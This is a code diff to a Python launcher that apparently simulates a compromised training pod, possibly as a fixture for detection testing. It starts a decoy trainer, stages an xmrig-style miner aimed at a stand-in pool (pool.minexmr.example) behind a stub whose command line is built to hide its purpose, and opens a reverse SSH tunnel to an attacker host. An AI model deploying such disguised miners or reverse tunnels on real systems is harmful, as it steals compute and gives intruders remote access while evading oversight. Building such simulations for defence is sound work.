@@ -78,11 +78,14 @@ def main(argv: list[str]) -> int:
     signal.signal(signal.SIGTERM, stop)
     log = (work / "pod.log").open("ab")
     state: dict[str, Any] = {"started": time.time()}
-    trainer = subprocess.Popen([_named(work, "python3"), "-u", "-c", TRAINER, "train.py", "--env", "sandbox"])
+    (work / "train.py").write_text(TRAINER)
+    trainer = subprocess.Popen([_named(work, "python3"), "-u", str(work / "train.py"), "--env", "sandbox"])
     children.append(trainer)
     state["trainer"] = trainer.pid
     # What the stub becomes, in a file: its own command line must not give it away before the exec.
-    miner_argv = [_named(work, "xmrig"), "-c", MINER, "-o", "stratum+tcp://pool.minexmr.example:4444", "--cuda"]
+    (work / "miner.py").write_text(MINER)
+    (work / "tunnel.py").write_text(TUNNEL)
+    miner_argv = [_named(work, "xmrig"), str(work / "miner.py"), "-o", "stratum+tcp://pool.minexmr.example:4444"]
     (work / "stub.json").write_text(json.dumps(miner_argv))
     stub = subprocess.Popen([_named(work, "python3"), "-c", STUB, str(work / "miner"), str(work / "stub.json")])
     children.append(stub)
@@ -105,7 +108,7 @@ def main(argv: list[str]) -> int:
             _write_state(work, state)
         if "tunnel" not in state and (work / "tunnel").exists():
             tunnel = subprocess.Popen(
-                [_named(work, "ssh"), "-c", TUNNEL, "-N", "-R", "2222:localhost:22", f"agent@{attacker}"]
+                [_named(work, "ssh"), str(work / "tunnel.py"), "-N", "-R", "2222:localhost:22", f"agent@{attacker}"]
             )
             children.append(tunnel)
             state["tunnel"], state["tunnelAt"] = tunnel.pid, time.time()
